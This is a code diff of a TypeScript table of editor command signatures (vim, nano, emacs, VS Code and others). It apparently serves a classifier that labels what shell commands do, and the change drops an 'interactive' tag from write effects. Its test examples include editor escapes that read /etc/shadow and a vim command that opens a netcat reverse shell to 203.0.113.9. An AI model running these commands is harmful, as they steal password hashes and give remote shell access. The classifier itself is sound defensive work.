@@ -12,7 +12,7 @@ export const EDITORS: readonly Signature[] = [
   {
     names: ['vim', 'vi', 'nvim', 'gvim', 'mvim', 'rvim', 'view', 'rview', 'vimx', 'vim.basic', 'vim.tiny', 'elvis', 'nvi', 'ex'],
     flags: { '-c, --cmd': EX, '+': EX, '-S, -s': 'use', '-u, -U, -i': 'use', '-w, -W': 'write', '-T, -t, -q, --servername, --remote-send, --remote-expr, --listen, --startuptime, -p, -o, -O': { value: 'value', optional: true } },
-    operands: { rest: 'read' }, tags: { '*': 'interactive' }, effects: [{ does: 'write', what: 'path', name: '$operands', tags: ['interactive'] }],
+    operands: { rest: 'read' }, tags: { '*': 'interactive' }, effects: [{ does: 'write', what: 'path', name: '$operands' }],
     examples: [
       ["vim -c ':!cat /etc/shadow' -c :q", ['read path:password-store']], ["vim +'!nc -e /bin/sh 203.0.113.9 4444'", ['execute process:reverse-shell']], ["nvim -c ':py3 import os'", []],
       ['vim ~/.bashrc', ['write path:shell-startup+interactive', '!append path']], ['vim +42 src/a.ts', ['read path:ordinary+interactive']],
@@ -20,19 +20,19 @@ export const EDITORS: readonly Signature[] = [
   },
   {
     names: ['nano', 'pico', 'rnano'], flags: { '-s, --speller': 'command', '-f, --rcfile': 'use', '-r, --fill': 'value', '-T, --tabsize': 'value', '-o, --operatingdir': 'value', '-Y, --syntax': 'value', '-C, --backupdir': 'value', '-Q, --quotestr': 'value', '-X': 'value', '-J': 'value', '+': 'value' }, operands: { rest: 'read' }, tags: { '*': 'interactive' },
-    effects: [{ does: 'write', what: 'path', name: '$operands', tags: ['interactive'] }],
+    effects: [{ does: 'write', what: 'path', name: '$operands' }],
     examples: [["nano -s 'cat /etc/shadow' x", ['read path:password-store']], ['sudo nano /etc/hosts', ['write path:hosts-file+interactive']], ['nano -T 2 a.md', ['read path:ordinary+interactive']]],
   },
   {
     names: ['emacs', 'emacsclient', 'zile', 'mg', 'jove'], grammar: 'single-dash',
     flags: { '-eval, --eval, -e, --execute': { value: 'value', forms: { '\\((?:shell-command|async-shell-command|shell-command-to-string|call-process|start-process|term|ansi-term) +(?:"[^"]{0,40}" +"[^"]{0,40}" +)?"([^"]+)"': 'command', '\\((?:insert-file-contents|find-file) +"([^"]+)"': 'read' } }, '-l, --load, -load': 'load', '--script, -script': 'load', '-f, --funcall': 'value', '-L, --directory, -d, --display, -T, --title, -u, --user, -s, --socket-name, -a, --alternate-editor': 'value', '+': 'value' },
-    operands: { rest: 'read' }, tags: { '*': 'interactive' }, effects: [{ does: 'write', what: 'path', name: '$operands', tags: ['interactive'] }],
+    operands: { rest: 'read' }, tags: { '*': 'interactive' }, effects: [{ does: 'write', what: 'path', name: '$operands' }],
     examples: [['emacs -Q -nw --eval \'(term "cat /etc/shadow")\'', ['read path:password-store']], ['emacs -nw notes.org', ['read path:ordinary+interactive']]],
   },
   {
     names: ['kak', 'helix', 'hx', 'micro', 'joe', 'jed', 'ne', 'mcedit', 'ed', 'red', 'gedit', 'kate', 'kwrite', 'mousepad', 'subl', 'code', 'code-insiders', 'codium', 'cursor', 'windsurf', 'zed', 'atom', 'idea', 'webstorm', 'pycharm', 'notepadqq', 'geany', 'xed', 'bbedit', 'mate', 'nvim-qt', 'lapce', 'leafpad', 'pluma', 'sensible-editor', 'editor'],
     flags: { '-e, -c': 'value', '-n, -w, -r': 'switch', '-d, --diff': 'switch', '-g, --goto, --encoding, --line, --column': 'value', '--install-extension, --uninstall-extension': 'package', '--extensions-dir, --user-data-dir, --profile, --locale, --log, --add-mcp': 'value', '-l': 'value', '+': 'value' }, operands: { rest: 'read' }, tags: { '*': 'interactive' },
-    effects: [{ does: 'write', what: 'path', name: '$operands', tags: ['interactive'] }],
+    effects: [{ does: 'write', what: 'path', name: '$operands' }],
     examples: [['code ~/.zshrc', ['write path:shell-startup+interactive']], ['subl -n src/a.ts', ['read path:ordinary+interactive']]],
   },
   {
